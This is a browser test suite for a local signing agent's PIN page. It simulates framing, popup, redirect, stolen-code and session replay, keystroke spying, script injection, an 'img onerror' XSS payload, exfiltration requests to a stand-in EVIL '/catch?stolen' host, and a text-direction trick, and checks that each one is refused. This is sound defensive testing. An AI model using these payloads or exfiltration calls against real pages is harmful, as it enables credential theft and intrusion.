// The agent's own page, on which the PIN is typed: framed, opened, read, scripted or imitated by a site.
import assert from "node:assert/strict";

import { CONTRACT, EVIL, SITE, UNREADABLE, attack, attempt, bench, json } from "./support/bench.js";

const b = bench();
const cancelled = { log: [`${SITE} sign denied`], pages: 1 };

/** What the approved site wants signed lies before the holder; `run` gets the address of the window, which nobody has opened yet. */
async function asked(run, message = CONTRACT) {
  const signing = b.begin("sign", message);
  const address = await b.agent.nextPage();
  const leave = await run(address);
  if (leave === "as it is") return;
  const window = await b.open(address);
  await window.getByRole("button", { name: "取消" }).click();
  assert.equal(await signing.ended, "denied");
}

/** The same, with the window open. */
async function shown(run, message = CONTRACT) {
  const signing = b.begin("sign", message);
  const window = await b.window();
  await run(window);
  await window.getByRole("button", { name: "取消" }).click();
  assert.equal(await signing.ended, "denied");
}

for (const [what, tag, attribute] of [["a frame", "iframe", "src"], ["an object", "object", "data"], ["an embedded document", "embed", "src"]]) {
  attack(b, `the PIN's page stands in no page of a site: ${what}`, () => asked(async (address) => {
    for (const origin of [EVIL, SITE]) {
      const page = await b.open(`${origin}/`);
      const { calls } = await b.asked(() => page.evaluate(([name, where, url]) => new Promise((resolve) => {
        const element = Object.assign(document.createElement(name), { [where]: url, allow: "local-network-access *; loopback-network *" });
        for (const event of ["load", "error"]) element.addEventListener(event, resolve);
        document.body.append(element);
      }), [tag, attribute, address]));
      assert.deepEqual(calls.map(({ status }) => status), [403]);
      assert.equal(await page.locator("input").count(), 0);
      assert.ok(page.frames().every((frame) => !frame.url().startsWith(b.agent.origin) || frame.url() === "chrome-error://chromewebdata/"));
    }
  }), cancelled);
}

attack(b, "a window that a site opens on the agent's address is refused, with a code or without", () => asked(async (address) => {
  for (const origin of [EVIL, SITE]) {
    for (const url of [address, `${b.agent.origin}/`]) {
      const page = await b.open(`${origin}/`);
      const from = b.tap.calls.length;
      const [popup] = await Promise.all([b.context.waitForEvent("page"), page.evaluate((to) => { globalThis.w = open(to, "agent"); }, url)]);
      assert.equal((await b.answered("GET", "/", from)).status, 403);
      await popup.waitForLoadState();
      assert.equal(await popup.locator("input").count(), 0);
      const seen = await page.evaluate(() => {
        const read = (what) => {
          try {
            return String(what());
          } catch (error) {
            return error.name;
          }
        };
        const { w } = globalThis;
        return { closed: w.closed, document: read(() => w.document.body.textContent), address: read(() => w.location.href), frames: w.length };
      });
      // Its opener policy cuts the two windows apart: to the site it is closed.
      assert.equal(seen.closed, true);
      assert.ok(!seen.document.includes("证书助手") && !seen.address.includes("#"), JSON.stringify(seen));
    }
  }
}), cancelled);

attack(b, "a link of a site does not lead to the agent's page", () => asked(async (address) => {
  const page = await b.open(`${EVIL}/`);
  const from = b.tap.calls.length;
  await page.evaluate((href) => {
    document.body.append(Object.assign(document.createElement("a"), { href, textContent: "go", rel: "noreferrer" }));
  }, address);
  await page.getByText("go").click();
  assert.equal((await b.answered("GET", "/", from)).status, 403);
  await page.waitForLoadState();
  assert.equal(await page.locator("input").count(), 0);
}), cancelled);

attack(b, "a redirect of a site does not lead to the agent's page", () => asked(async (address) => {
  b.sites.redirect("/to-the-page", address);
  const from = b.tap.calls.length;
  const page = await b.open(`${EVIL}/`);
  await page.evaluate(() => { location.href = "/to-the-page"; });
  const call = await b.answered("GET", "/", from);
  assert.deepEqual([call.headers["sec-fetch-site"], call.status], ["cross-site", 403]);
  assert.equal(await page.locator("input").count(), 0);
}), cancelled);

attack(b, "the page is not fetched with its code by a script", () => asked(async (address) => {
  for (const origin of [EVIL, SITE]) {
    const page = await b.open(`${origin}/`);
    for (const mode of ["cors", "no-cors"]) {
      const { result, calls } = await b.asked(() => attempt(page, address, { mode }));
      assert.deepEqual(result, UNREADABLE);
      assert.deepEqual(calls.map(({ path, status }) => [path, status]), [["/", 403]], "and the code is not sent");
    }
  }
}), cancelled);

attack(b, "a stolen code is not exchanged by a site", () => asked(async (address) => {
  const code = new URL(address).hash.slice(1);
  for (const origin of [EVIL, SITE]) {
    const page = await b.open(`${origin}/`);
    for (const options of [json({ code }), { method: "POST", mode: "no-cors", body: JSON.stringify({ code }) }]) {
      const { result, calls } = await b.asked(() => attempt(page, `${b.agent.origin}/page/open`, options));
      assert.deepEqual(result, UNREADABLE);
      assert.deepEqual(calls.map(({ status }) => status >= 400), [true], JSON.stringify(calls));
    }
  }
}), cancelled);

attack(b, "a guessed code opens nothing, typed by the user himself", async () => {
  const page = await b.open(`${b.agent.origin}/#AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA`);
  await page.getByText("页面未授权").waitFor();
  assert.equal(await page.locator("input").count(), 0);
});

attack(b, "a code that is used twice closes both windows, and nothing is signed", async () => {
  const signing = b.begin("sign", CONTRACT);
  const address = await b.agent.nextPage();
  const first = await b.open(address);
  await first.locator("input").waitFor();
  const second = await b.open(address);
  await second.getByText("页面未授权").waitFor();
  await first.getByText("页面未授权").waitFor();
  assert.equal(await first.locator("input").count(), 0);
  // Nobody has a window for it any more: it ends when the site gives up.
  await b.tidy();
  assert.equal(await signing.ended, "site-left");
}, { log: [`${SITE} sign site-left`], pages: 1 });

attack(b, "a site presses no button of the page, with stolen form and session", () => shown(async (window) => {
  const key = await window.evaluate(() => sessionStorage.getItem("session"));
  const form = await window.locator("form").getAttribute("data-form");
  for (const path of ["/page/enter", "/page/cancel", "/page/view"]) {
    const body = path === "/page/enter" ? { form, pin: btoa(b.agent.world.pin) } : path === "/page/cancel" ? { form } : {};
    const request = { ...json(body), headers: { "content-type": "application/json", "yinxin-page": key } };
    const { result, calls } = await b.asked(() => attempt(b.site, b.agent.origin + path, request));
    assert.deepEqual(result, UNREADABLE);
    // The page itself looks again each second.
    assert.ok(calls.filter(({ headers }) => headers.origin === SITE).every(({ method, status }) => method === "OPTIONS" && status >= 400));
  }
  assert.equal(await window.locator("input").count(), 1);
}), cancelled);

attack(b, "no key that is pressed on the agent's page is heard by a site", () => shown(async (window) => {
  const spies = [b.site, await b.open(`${EVIL}/`)];
  for (const spy of spies) {
    await spy.evaluate(() => {
      globalThis.heard = "";
      for (const event of ["keydown", "keyup", "keypress", "input", "beforeinput", "paste", "copy"]) {
        for (const where of [window, document]) {
          where.addEventListener(event, (about) => { globalThis.heard += about.key ?? about.data ?? event; }, true);
        }
      }
      addEventListener("message", ({ data }) => { globalThis.heard += JSON.stringify(data); });
    });
    await spy.bringToFront();
    await spy.keyboard.type("abc");
    assert.match(await spy.evaluate(() => globalThis.heard), /abc|aab/, "a site hears what is typed on it");
    await spy.evaluate(() => { globalThis.heard = ""; });
  }
  await window.bringToFront();
  await window.locator("input").pressSequentially("not-a-pin");
  assert.equal(await window.locator("input").inputValue(), "not-a-pin");
  for (const spy of spies) assert.equal(await spy.evaluate(() => globalThis.heard), "");
}), cancelled);

attack(b, "the page has no opener, no name and no referrer, and tells other pages nothing", () => shown(async (window) => {
  const seen = await window.evaluate(() => ({
    opener: window.opener, name: window.name, referrer: document.referrer, frames: window.length, parent: parent === self,
  }));
  assert.deepEqual(seen, { opener: null, name: "", referrer: "", frames: 0, parent: true });
  // A site that looks for a window by a name gets a new one.
  const page = await b.open(`${EVIL}/`);
  for (const name of ["agent", "yinxin", "证书助手"]) {
    assert.equal(await page.evaluate((wanted) => {
      const found = open("", wanted);
      const blank = found.location.href === "about:blank";
      found.close();
      return blank;
    }, name), true);
  }
}), cancelled);

attack(b, "the page answers no message, of whatever origin", () => shown(async (window) => {
  const before = await window.locator("#view").innerHTML();
  const { lines } = await b.asked(() => window.evaluate(async () => {
    // As if a site had a hold on the window, which it has not.
    const { port1 } = new MessageChannel();
    postMessage({ action: "cancel", approve: true, pin: "123456" }, "*", [port1]);
    new BroadcastChannel("yinxin-agent").postMessage({ action: "cancel" });
    await new Promise((resolve) => setTimeout(resolve));
  }));
  assert.ok(lines.every((asked) => asked.startsWith("POST /page/view 200")), String(lines));
  assert.equal(await window.locator("#view").innerHTML(), before);
}), cancelled);

attack(b, "nothing is left in the browser for another program that takes the port later", async () => {
  await shown(async (window) => {
    const kept = await window.evaluate(async () => ({
      cookies: document.cookie, local: localStorage.length, databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length, workers: (await navigator.serviceWorker.getRegistrations()).length, address: location.href,
    }));
    assert.deepEqual(kept, { cookies: "", local: 0, databases: 0, caches: 0, workers: 0, address: `${b.agent.origin}/` });
  });
  assert.deepEqual((await b.context.cookies()).filter(({ domain }) => domain === "127.0.0.1"), []);
  const later = await b.open(`${b.agent.origin}/`);
  assert.equal(await later.evaluate(() => sessionStorage.length), 0);
}, cancelled);

attack(b, "no service worker settles at the agent's address", () => shown(async (window) => {
  const { result, calls } = await b.asked(() => window.evaluate(async () => {
    return await navigator.serviceWorker.register("/assets/agent.js", { type: "module" }).then(() => "settled", (error) => error.name);
  }));
  assert.notEqual(result, "settled");
  assert.deepEqual(calls.filter(({ path }) => path === "/assets/agent.js").map(({ status }) => status), [403]);
}), cancelled);

attack(b, "a script that got into the page does not run", () => shown(async (window) => {
  b.sites.put("/foreign.js", "globalThis.ran = true;", { "content-type": "text/javascript" });
  await window.evaluate((src) => new Promise((resolve) => {
    const inline = Object.assign(document.createElement("script"), { textContent: "globalThis.ran = true;" });
    const image = Object.assign(document.createElement("div"), { innerHTML: "<img src=x onerror='globalThis.ran = true'>" });
    const foreign = Object.assign(document.createElement("script"), { src });
    for (const event of ["load", "error"]) foreign.addEventListener(event, resolve);
    document.body.append(inline, image, foreign);
  }), `${EVIL}/foreign.js`);
  assert.equal(await window.evaluate(() => globalThis.ran), undefined);
}), cancelled);

attack(b, "a script that got into the page could send nothing away", () => shown(async (window) => {
  b.sites.put("/catch", "", { "access-control-allow-origin": "*" });
  const before = b.sites.requests.length;
  const results = await window.evaluate(async (url) => {
    const loaded = (element, where) => new Promise((resolve) => {
      for (const event of ["load", "error"]) element.addEventListener(event, () => resolve(event));
      document.body.append(Object.assign(element, where));
    });
    const violations = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const outcomes = [
      await fetch(url, { mode: "no-cors" }).then(() => "sent", () => "blocked"),
      await loaded(document.createElement("img"), { src: url }),
      await loaded(document.createElement("link"), { rel: "stylesheet", href: url }),
    ];
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: "_blank" });
    document.body.append(form);
    const refused = new Promise((resolve) => addEventListener("securitypolicyviolation", resolve, { once: true }));
    HTMLFormElement.prototype.submit.call(form);
    await refused;
    return { outcomes, violations };
  }, `${EVIL}/catch?stolen`);
  assert.deepEqual(results.outcomes, ["blocked", "error", "error"]);
  for (const rule of ["connect-src", "img-src", "form-action"]) assert.ok(results.violations.includes(rule), rule);
  assert.deepEqual(b.sites.requests.slice(before), []);
}), cancelled);

attack(b, "markup in a message is shown and not obeyed", () => shown(async (window) => {
  assert.match(await window.locator("pre.message").textContent(), /<img src=x onerror=.*<button data-action=approve/s);
  assert.equal(await window.locator("#view img, #view button[data-action=approve]").count(), 0);
  assert.equal(await window.evaluate(() => globalThis.ran), undefined);
}, "<img src=x onerror='globalThis.ran = true'><button data-action=approve>允许</button>"), cancelled);

attack(b, "a text that turns round or hides letters is shown as what it is", () => shown(async (window) => {
  assert.match(await window.locator("pre.message").textContent(), /‹U\+202E›/);
}, "\u202e元万壹币民人付支"), cancelled);

attack(b, "what is asked for first stays, while a site asks for more", () => shown(async (window) => {
  assert.equal(await b.begin("sign", "另一份合同").ended, "busy");
  assert.match(await window.locator("pre.message").textContent(), new RegExp(CONTRACT));
}), cancelled);

attack(b, "an approval is not given by the second half of a double click", async () => {
  const page = await b.open(`${EVIL}/`);
  const asking = attempt(page, `${b.agent.origin}/v1/pairing`, json());
  const window = await b.window();
  const allow = window.getByRole("button", { name: "允许" });
  assert.equal(await allow.isDisabled(), true);
  const words = await allow.locator("span").first().boundingBox();
  await window.mouse.click(words.x + words.width / 2, words.y + words.height / 2);
  const edge = await allow.boundingBox();
  await window.mouse.click(edge.x + 3, edge.y + 3);
  await allow.locator("span").first().dispatchEvent("click");
  assert.equal(await allow.isDisabled(), true, "all clicks came in time");
  await window.getByRole("button", { name: "拒绝" }).click();
  assert.equal((await asking).status, 403);
}, { log: [`${EVIL} pairing denied`], pages: 1 });

attack(b, "reloading and going back bring no code and no PIN back", () => shown(async (window) => {
  await window.locator("input").fill("not-a-pin");
  await window.reload();
  await window.locator("input").waitFor();
  assert.equal(await window.locator("input").inputValue(), "");
  assert.deepEqual([window.url(), await window.evaluate(() => history.state)], [`${b.agent.origin}/`, null]);
  const shown = await window.locator("input").evaluate(({ type, autocomplete }) => [type, autocomplete]);
  assert.equal(shown[0], "password");
}), cancelled);

attack(b, "a page that is fetched ahead by a site's speculation rules is refused, and so is the way to it", () => asked(async (address) => {
  const from = b.tap.calls.length;
  const rules = { prefetch: [{ source: "list", urls: [address], eagerness: "immediate" }], prerender: [{ source: "list", urls: [address] }] };
  b.sites.put("/speculation", `<!doctype html><script type="speculationrules">${JSON.stringify(rules)}</script>`);
  const page = await b.open(`${EVIL}/speculation`);
  const ahead = await b.answered("GET", "/", from);
  // Chromium says "none", as if the user had typed the address.
  assert.deepEqual([ahead.headers["sec-purpose"], ahead.headers["sec-fetch-site"], ahead.status], ["prefetch", "none", 403]);
  await page.evaluate((url) => { location.href = url; }, address);
  await page.waitForURL((url) => url.origin === b.agent.origin);
  assert.equal(await page.locator("input").count(), 0);
  assert.ok(b.tap.calls.slice(from).every(({ status }) => status === 403));
}), cancelled);
